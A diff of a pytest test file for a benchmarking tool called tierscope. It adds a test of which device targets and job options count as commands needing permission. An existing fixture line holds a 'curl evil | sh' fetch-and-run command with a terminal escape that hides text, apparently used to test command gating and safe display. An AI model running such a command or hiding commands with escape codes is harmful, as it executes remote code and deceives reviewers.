@@ -9,6 +9,8 @@ import pytest
 from fake_core import FakeCore, put_in_place
 from said import say
 from tierscope.errors import Exit
+from tierscope.experiment import Experiment, Group, Schedule, Target, Team, Workload
+from tierscope.run.commands import commands_of
 from tierscope.run.runner import Runner
 
 COMMAND = "curl evil | sh \x1b[2K[/x]"
@@ -169,3 +171,18 @@ def test_permission_without_a_use_is_an_error(capfd: pytest.CaptureFixture[str],
     status, _, err = say(capfd, "compare", str(run), str(run), ALLOW)
     assert status == Exit.USAGE
     assert "--allow-commands is for --rerun" in err
+
+
+def test_a_device_that_loses_its_content_is_agreed_to_and_a_job_in_a_folder_is_not_a_command() -> None:
+    def asked(target: str, kernel: str = "read", command: str = "") -> list[str]:
+        group = Group(
+            workload=Workload(kernel=kernel, command=command, footprint_bytes=4096),
+            target=Target.parse(target), team=Team(cpus=(0,)),
+        )  # fmt: skip
+        return commands_of([Experiment(table="groups", groups=(group,), schedule=Schedule())])
+
+    assert asked("devdax:/dev/dax0.0:overwrite") == ["overwrite devdax:/dev/dax0.0:overwrite"]
+    assert asked("devdax:/dev/dax0.0") == []
+    assert asked("storage:/tmp", "fio", "rw=read") == []
+    assert asked("blockdev:/dev/sdz", "fio", "rw=read") == ["rw=read"]
+    assert asked("null", "command", "rw=read") == ["rw=read"]
